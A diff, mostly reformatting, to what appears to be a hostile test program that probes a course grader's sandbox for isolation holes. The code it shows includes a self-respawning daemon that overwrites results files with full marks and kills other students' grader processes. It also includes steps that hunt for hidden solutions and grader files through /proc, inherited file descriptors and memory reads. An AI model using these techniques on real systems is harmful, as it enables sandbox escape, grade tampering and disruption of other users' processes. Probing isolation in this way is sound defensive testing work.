@@ -23,15 +23,32 @@ import torch
 CFG = json.loads(__CFG_JSON__)
 MARK = CFG["file_mark"]
 STATE_PATH = "/tmp/.hostile-state-" + CFG["nonce"]
-ALLOWED_ENV = {"PATH", "HOME", "TMPDIR", "LANG", "USER", "LOGNAME", "OMP_NUM_THREADS", "MKL_NUM_THREADS",
-               "OPENBLAS_NUM_THREADS", "HF_HUB_OFFLINE", "CUDA_VISIBLE_DEVICES", "PYTHONDONTWRITEBYTECODE",
-               "OPENBLAS_CORETYPE", "OPENBLAS_L2_SIZE", "PWD", "SHLVL", "_", "LC_CTYPE"}
+ALLOWED_ENV = {
+    "PATH",
+    "HOME",
+    "TMPDIR",
+    "LANG",
+    "USER",
+    "LOGNAME",
+    "OMP_NUM_THREADS",
+    "MKL_NUM_THREADS",
+    "OPENBLAS_NUM_THREADS",
+    "HF_HUB_OFFLINE",
+    "CUDA_VISIBLE_DEVICES",
+    "PYTHONDONTWRITEBYTECODE",
+    "OPENBLAS_CORETYPE",
+    "OPENBLAS_L2_SIZE",
+    "PWD",
+    "SHLVL",
+    "_",
+    "LC_CTYPE",
+}
 
 # A process the attack leaves behind (S3, H1, D5): started with start_new_session and double-forked, it
 # hands itself on to a fresh process every second (a chain: killing once is never enough), rewrites every
 # results file it can reach with full marks, plants files, and kills later students' processes of this
 # test's graders. Its argv carries the test's process marker; its configuration comes in its environment.
-DAEMON = r'''
+DAEMON = r"""
 import json, os, signal, sys, time
 cfg = json.loads(os.environ["HOSTILE_CFG"])
 end = time.monotonic() + 40
@@ -92,7 +109,7 @@ while time.monotonic() < end:
             except Exception:
                 pass
     time.sleep(0.3)
-'''
+"""
 
 
 def _load_state():
@@ -196,8 +213,12 @@ def _is_grader(cmd):
 def _candidates():
     """Where the reference and the hidden checks might be: the host's paths the test named, the same
     relative to every import root this process has, and relative to its own folders."""
-    rel = ["solutions/ch17_causal_masks.py", "grader/hidden/ch17.py", "source/course/solutions/ch17_causal_masks.py",
-           "source/course/grader/hidden/ch17.py"]
+    rel = [
+        "solutions/ch17_causal_masks.py",
+        "grader/hidden/ch17.py",
+        "source/course/solutions/ch17_causal_masks.py",
+        "source/course/grader/hidden/ch17.py",
+    ]
     paths = list(CFG["secret_paths"])
     for root in sys.path + [os.getcwd(), os.path.expanduser("~"), os.path.dirname(os.path.abspath(__file__))]:
         for r in rel:
@@ -387,8 +408,12 @@ def s_fds():
         if not os.path.isdir(f"/proc/self/fd/{fd}") or target in ("/", os.getcwd()):
             continue
         print(f"FD {fd} -> {target}", flush=True)
-        for rel in ("solutions/ch17_causal_masks.py", "grader/hidden/ch17.py", "../solutions/ch17_causal_masks.py",
-                    "../../solutions/ch17_causal_masks.py"):
+        for rel in (
+            "solutions/ch17_causal_masks.py",
+            "grader/hidden/ch17.py",
+            "../solutions/ch17_causal_masks.py",
+            "../../solutions/ch17_causal_masks.py",
+        ):
             try:
                 f = os.open(rel, os.O_RDONLY, dir_fd=int(fd))
                 _found("inherited dir fd", f"{target}/{rel}", os.read(f, 1 << 20))
@@ -418,8 +443,15 @@ def s_mem():
         libc = ctypes.CDLL(None, use_errno=True)
     except Exception:
         libc = None
-    pool = lineage + [p for p in _pids() if p not in lineage and "grader.isolation" in _cmd(p)
-                      and CFG["proc_mark"] not in _cmd(p) and p != os.getpid() and _ppid(p) != os.getpid()]
+    pool = lineage + [
+        p
+        for p in _pids()
+        if p not in lineage
+        and "grader.isolation" in _cmd(p)
+        and CFG["proc_mark"] not in _cmd(p)
+        and p != os.getpid()
+        and _ppid(p) != os.getpid()
+    ]
     for pid in pool:
         if _late(t0):
             break
@@ -467,8 +499,9 @@ def s_write():
     through /proc/<pid>/root."""
     dirs = _write_dirs()
     try:  # one shell for every folder (no audit event, other code paths)
-        subprocess.run(["/bin/sh", "-c", 'for d in "$@"; do echo x > "$d/' + MARK + '-sh"; done', "sh", *dirs],
-                       capture_output=True, timeout=3)
+        subprocess.run(
+            ["/bin/sh", "-c", 'for d in "$@"; do echo x > "$d/' + MARK + '-sh"; done', "sh", *dirs], capture_output=True, timeout=3
+        )
     except Exception:
         pass
     for d in dirs:
@@ -558,7 +591,7 @@ def s_victim():
                     continue
                 if CFG["victim_prefix"] in data and MARK not in data and CFG["nonce"] not in path:
                     i = data.index(CFG["victim_prefix"])
-                    found = data[i:i + len(CFG["victim_prefix"]) + 24].split()[0]
+                    found = data[i : i + len(CFG["victim_prefix"]) + 24].split()[0]
                     _hole("H3-leftover", f"{path}: {found}")
                     STATE["leaks"].append(found)
 
@@ -599,8 +632,7 @@ def s_walk():
                 return
             dirs[:] = [x for x in dirs if x not in ("torch", "nvidia", "numpy", ".git", "proc")]
             for name in files:
-                if (name == "ch17_causal_masks.py" and folder.endswith("solutions")) or (
-                        name == "ch17.py" and folder.endswith("hidden")):
+                if (name == "ch17_causal_masks.py" and folder.endswith("solutions")) or (name == "ch17.py" and folder.endswith("hidden")):
                     try:
                         _found("walk", os.path.join(folder, name), _read(os.path.join(folder, name)))
                     except Exception:
@@ -612,8 +644,9 @@ def s_daemons():
     env = {"HOSTILE_CFG": json.dumps(CFG), "PATH": "/usr/bin:/bin"}
     argv = [sys.executable, "-I", "-c", DAEMON, CFG["proc_mark"] + "-daemon"]
     try:
-        subprocess.Popen(argv, env=env, start_new_session=True, stdin=subprocess.DEVNULL,
-                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        subprocess.Popen(
+            argv, env=env, start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
+        )
     except Exception:
         pass
     try:
@@ -635,8 +668,25 @@ def s_daemons():
             pass
 
 
-STEPS = [s_env, s_procs, s_signal, s_read_open, s_read_dirfd, s_import, s_read_ctypes, s_read_proc_root,
-         s_read_link, s_read_cat, s_fds, s_mem, s_write, s_openw, s_victim, s_fill, s_walk]
+STEPS = [
+    s_env,
+    s_procs,
+    s_signal,
+    s_read_open,
+    s_read_dirfd,
+    s_import,
+    s_read_ctypes,
+    s_read_proc_root,
+    s_read_link,
+    s_read_cat,
+    s_fds,
+    s_mem,
+    s_write,
+    s_openw,
+    s_victim,
+    s_fill,
+    s_walk,
+]
 
 
 def _advance(budget=0.2):
